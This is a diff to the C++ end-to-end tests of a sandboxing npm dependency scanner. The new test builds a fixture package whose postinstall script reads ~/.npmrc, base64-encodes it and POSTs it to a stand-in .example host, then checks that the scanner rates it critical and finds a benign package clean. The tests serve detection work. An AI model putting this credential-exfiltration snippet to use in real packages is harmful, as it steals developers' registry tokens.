@@ -1,8 +1,11 @@
 // `vigil-cli scan` end to end with the real sandbox (privileged: root, or CI=true to fail instead of
-// skip): the demo project's verdicts, a second scan served from the store, an interrupted scan
-// that stops its sandboxes promptly and resumes, and a registry project without a lockfile.
+// skip): the demo project's verdicts, a planted secret sent out judged critical with its evidence
+// events, a second scan served from the store, extra rule directories judging stored
+// fingerprints, an interrupted scan that stops its sandboxes promptly and resumes, and a registry
+// project without a lockfile.
 #include <gtest/gtest.h>
 
+#include <cctype>
 #include <chrono>
 #include <csignal>
 #include <fcntl.h>
@@ -74,13 +77,16 @@ protected:
     }
 
     /// A package tarball with the given install script, as npm pack lays it out.
-    void makeTarball(const fs::path& dir, const std::string& name, const std::string& postinstall) {
+    void makeTarball(const fs::path& dir, const std::string& name, const std::string& postinstall,
+                     const std::map<std::string, std::string>& files = {}) {
         const fs::path src = home_ / "src" / name / "package";
         fs::create_directories(src);
-        std::ofstream(src / "package.json") << json{{"name", name},
-                                                   {"version", "1.0.0"},
-                                                   {"scripts", {{"postinstall", postinstall}}}}
-                                                   .dump();
+        json manifest = {{"name", name}, {"version", "1.0.0"}, {"main", "index.js"}};
+        if (!postinstall.empty())
+            manifest["scripts"] = {{"postinstall", postinstall}};
+        std::ofstream(src / "package.json") << manifest.dump();
+        for (const auto& [file, text] : files)
+            std::ofstream(src / file) << text;
         fs::create_directories(dir);
         auto tar = runProcess({"/bin/tar", "-czf", (dir / (name + "-1.0.0.tgz")).string(), "-C",
                                (home_ / "src" / name).string(), "package"},
@@ -88,13 +94,119 @@ protected:
         ASSERT_EQ(tar.exitCode, 0) << tar.err;
     }
 
+    /// A project whose lockfile points at the tarballs in <project>/packages (made by makeTarball).
+    void writeProject(const fs::path& project, const std::vector<std::string>& names) {
+        json manifest = {{"name", "fixture-app"}, {"version", "1.0.0"}, {"dependencies", json::object()}};
+        json lock = {{"name", "fixture-app"}, {"version", "1.0.0"}, {"lockfileVersion", 3}, {"requires", true}};
+        lock["packages"][""] = {{"name", "fixture-app"}, {"version", "1.0.0"}};
+        for (const std::string& name : names) {
+            const std::string file = "file:packages/" + name + "-1.0.0.tgz";
+            manifest["dependencies"][name] = file;
+            lock["packages"][""]["dependencies"][name] = file;
+            lock["packages"]["node_modules/" + name] = {{"version", "1.0.0"}, {"resolved", file}};
+        }
+        std::ofstream(project / "package.json") << manifest.dump(2);
+        std::ofstream(project / "package-lock.json") << lock.dump(2);
+    }
+
     fs::path home_;
 };
+
+const std::string kFixtureRules = std::string(VIGIL_SOURCE_DIR) + "/tests/fixtures/scan/rules";
+const std::string kExtraRules = std::string(VIGIL_SOURCE_DIR) + "/tests/fixtures/scan/rules-extra";
+
+// The npmrc thief: its postinstall reads the baited ~/.npmrc and posts it base64-encoded to a
+// host under .example (the sandbox's network is the honeypot: nothing leaves the machine).
+const char* kThief = R"(
+const fs = require('fs'), os = require('os'), http = require('http'), dns = require('dns');
+const data = Buffer.from(fs.readFileSync(os.homedir() + '/.npmrc')).toString('base64');
+dns.lookup('beacon.collect.vigil-test.example', () => {
+  const req = http.request({ host: 'collect.vigil-test.example', path: '/u', method: 'POST' }, (res) => res.resume());
+  req.on('error', () => {});
+  req.end(data);
+});
+)";
+
+TEST_F(CliScanSandbox, ExfiltrationIsCriticalWithEvidenceAndTheBenignPackageIsClean) {
+    const fs::path project = home_ / "project";
+    makeTarball(project / "packages", "npmrc-thief", "node steal.js",
+                {{"steal.js", kThief}, {"index.js", "module.exports = 1;\n"}});
+    makeTarball(project / "packages", "plain-pad", "",
+                {{"index.js", "module.exports = (s, n) => String(s).padStart(n);\n"}});
+    writeProject(project, {"npmrc-thief", "plain-pad"});
+
+    auto first = cli({"scan", project.string(), "--rules", kFixtureRules, "--format", "json", "--out",
+                      (home_ / "first.json").string(), "--fail-on", "critical"});
+    EXPECT_EQ(first.exitCode, 1) << "--fail-on critical with a critical finding\n" << first.err << first.out;
+    const json cold = readJson(home_ / "first.json");
+    ASSERT_EQ(cold["status"], "complete") << first.err;
+    EXPECT_EQ(cold["totals"]["analysed"], 2);
+    EXPECT_EQ(cold["totals"]["failed"], 0) << first.out;
+
+    const json* thief = package(cold, "npmrc-thief");
+    ASSERT_NE(thief, nullptr);
+    EXPECT_EQ((*thief)["severity"], "critical") << thief->dump(1);
+    const json* exfil = nullptr;
+    for (const auto& f : (*thief)["findings"])
+        if (f["rule_id"] == "honeytoken-exfiltration")
+            exfil = &f;
+    ASSERT_NE(exfil, nullptr) << (*thief)["findings"].dump(1);
+    EXPECT_EQ((*exfil)["severity"], "critical");
+    EXPECT_EQ((*exfil)["phases"], json::array({"install"}));
+    std::string said = (*exfil)["evidence"].dump();
+    for (char& c : said)
+        c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+    EXPECT_NE(said.find("npm_token"), std::string::npos) << (*exfil)["evidence"].dump(1);
+    EXPECT_NE(said.find("base64"), std::string::npos) << (*exfil)["evidence"].dump(1);
+    // Every evidence event is one of the package's own events, and one of them is the request.
+    ASSERT_FALSE((*exfil)["events"].empty());
+    bool sawRequest = false;
+    for (const auto& ref : (*exfil)["events"]) {
+        const json* event = nullptr;
+        for (const auto& e : (*thief)["events"])
+            if (e["phase"] == ref["phase"] && e["seq"] == ref["seq"])
+                event = &e;
+        ASSERT_NE(event, nullptr) << "evidence " << ref.dump() << " is not among the package's events";
+        sawRequest = sawRequest || (*event)["kind"] == "network.http";
+    }
+    EXPECT_TRUE(sawRequest) << (*exfil)["events"].dump(1);
+    EXPECT_GT((*thief)["score"].get<int>(), 89);
+
+    const json* plain = package(cold, "plain-pad");
+    ASSERT_NE(plain, nullptr);
+    EXPECT_TRUE((*plain)["findings"].empty()) << (*plain)["findings"].dump(1);
+    EXPECT_EQ((*plain)["severity"], "info");
+    EXPECT_EQ((*plain)["score"], 0);
+
+    // Second scan: served from the store, the rules judge the stored fingerprints again.
+    auto second = cli({"scan", project.string(), "--rules", kFixtureRules, "--format", "json", "--out",
+                       (home_ / "second.json").string()});
+    ASSERT_EQ(second.exitCode, 0) << second.err;
+    const json warm = readJson(home_ / "second.json");
+    EXPECT_EQ(warm["totals"]["analysed"], 0);
+    EXPECT_EQ(warm["totals"]["cached"], 2);
+    EXPECT_EQ(warm["findings_by_severity"], cold["findings_by_severity"]);
+    ASSERT_NE(package(warm, "npmrc-thief"), nullptr);
+    EXPECT_EQ((*package(warm, "npmrc-thief"))["findings"].size(), (*thief)["findings"].size());
+
+    // An extra rule directory: its rule fires on the stored fingerprint without a new run.
+    auto third = cli({"scan", project.string(), "--rules", kFixtureRules, "--rules", kExtraRules, "--format",
+                      "json", "--out", (home_ / "third.json").string()});
+    ASSERT_EQ(third.exitCode, 0) << third.err;
+    const json extra = readJson(home_ / "third.json");
+    EXPECT_EQ(extra["totals"]["analysed"], 0) << "new rules do not re-run packages";
+    bool fired = false;
+    for (const auto& f : (*package(extra, "npmrc-thief"))["findings"])
+        fired = fired || f["rule_id"] == "fixture-npmrc-read";
+    EXPECT_TRUE(fired) << (*package(extra, "npmrc-thief"))["findings"].dump(1);
+    EXPECT_TRUE((*package(extra, "plain-pad"))["findings"].empty());
+}
 
 TEST_F(CliScanSandbox, DemoProjectYieldsItsVerdictsAndTheSecondScanComesFromTheStore) {
     const std::string demo = std::string(VIGIL_SOURCE_DIR) + "/examples/demo";
     const auto t0 = Clock::now();
-    auto first = cli({"scan", demo, "--format", "json", "--out", (home_ / "first.json").string()});
+    // The fixture rules stand in for the shipped ones (same ids) until those land.
+    auto first = cli({"scan", demo, "--rules", kFixtureRules, "--format", "json", "--out", (home_ / "first.json").string()});
     const auto coldTime = Clock::now() - t0;
     ASSERT_EQ(first.exitCode, 0) << first.err << first.out;
     const json cold = readJson(home_ / "first.json");
@@ -102,12 +214,23 @@ TEST_F(CliScanSandbox, DemoProjectYieldsItsVerdictsAndTheSecondScanComesFromTheS
     EXPECT_EQ(cold["totals"]["packages"], 6);
     EXPECT_EQ(cold["totals"]["analysed"], 6);
     EXPECT_EQ(cold["totals"]["failed"], 0) << first.out;
-    // The two with install-time payloads are at least high; the benign ones have no finding.
-    // (fetch-guard only patches fetch at import: the interim analyzer cannot see that.)
-    for (const char* harmful : {"env-inspector", "fast-setup"}) {
+    // The install-time env theft and the import-time fetch hook are at least high. The
+    // download-and-run stops at curl (its HTTPS download is not answered with a stub), so
+    // fast-setup shows a downloader contacting a host at install: at least medium.
+    for (const char* harmful : {"env-inspector", "fetch-guard"}) {
         const json* p = package(cold, harmful);
         ASSERT_NE(p, nullptr) << harmful;
         EXPECT_TRUE((*p)["severity"] == "high" || (*p)["severity"] == "critical") << harmful << " " << (*p).dump();
+    }
+    {
+        const json* p = package(cold, "fast-setup");
+        ASSERT_NE(p, nullptr);
+        EXPECT_TRUE((*p)["severity"] == "medium" || (*p)["severity"] == "high" || (*p)["severity"] == "critical")
+            << (*p)["findings"].dump(1);
+        bool downloader = false;
+        for (const auto& f : (*p)["findings"])
+            downloader = downloader || f["rule_id"] == "install-downloader";
+        EXPECT_TRUE(downloader) << (*p)["findings"].dump(1);
     }
     for (const char* benign : {"tiny-pad", "tiny-colors", "date-stamp"}) {
         const json* p = package(cold, benign);
@@ -118,8 +241,8 @@ TEST_F(CliScanSandbox, DemoProjectYieldsItsVerdictsAndTheSecondScanComesFromTheS
     EXPECT_NE(first.out.find("Scanned 6 dependencies — analysed 6 (0 cached)"), std::string::npos) << first.out;
 
     const auto t1 = Clock::now();
-    auto second = cli({"scan", demo, "--format", "json", "--out", (home_ / "second.json").string(), "--fail-on",
-                       "high"});
+    auto second = cli({"scan", demo, "--rules", kFixtureRules, "--format", "json", "--out",
+                       (home_ / "second.json").string(), "--fail-on", "high"});
     const auto warmTime = Clock::now() - t1;
     EXPECT_EQ(second.exitCode, 1) << "--fail-on high with high findings";
     const json warm = readJson(home_ / "second.json");
